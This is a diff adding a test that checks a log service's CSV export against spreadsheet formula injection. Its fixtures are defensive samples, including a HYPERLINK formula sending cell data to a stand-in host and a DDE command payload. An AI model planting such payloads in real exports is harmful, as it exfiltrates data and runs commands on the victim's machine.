@@ -137,6 +137,26 @@ def test_export_ndjson_csv_and_gzip(client, stored, monkeypatch):
     assert_error(_get(client, stored["web"], "/api/v1/logs/export", format="xml"), 400, "invalid_format")
 
 
+@pytest.mark.django_db(transaction=True)
+def test_csv_export_cells_never_start_a_formula(client, make_key, queue, drain):
+    """OWASP's rule: =, +, -, @, tab and CR at a cell's start are made plain text; NDJSON stays exact."""
+    import asyncio
+
+    key = make_key()
+    messages = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1)",
+                "\tx", "\rx", "plain = fine"]
+    post_logs(client, key, [{"message": m, "host": "=cmd|' /C calc'!A0", "timestamp": _at(i)}
+                            for i, m in enumerate(messages)])
+    drain()
+    response = _get(client, key, "/api/v1/logs/export", format="csv", order="oldest")
+    rows = list(csv.DictReader(io.StringIO(asyncio.run(_adownload(response)).decode(), newline="")))
+    assert [row["message"] for row in rows] == [m if m.startswith("plain") else "'" + m for m in messages]
+    assert {row["host"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
+    response = _get(client, key, "/api/v1/logs/export", order="oldest")
+    assert [orjson.loads(line)["message"] for line in asyncio.run(_adownload(response)).splitlines()] == messages
+
+
 @pytest.fixture
 def members(stored):
     tenant = Tenant.objects.get(slug="acme")
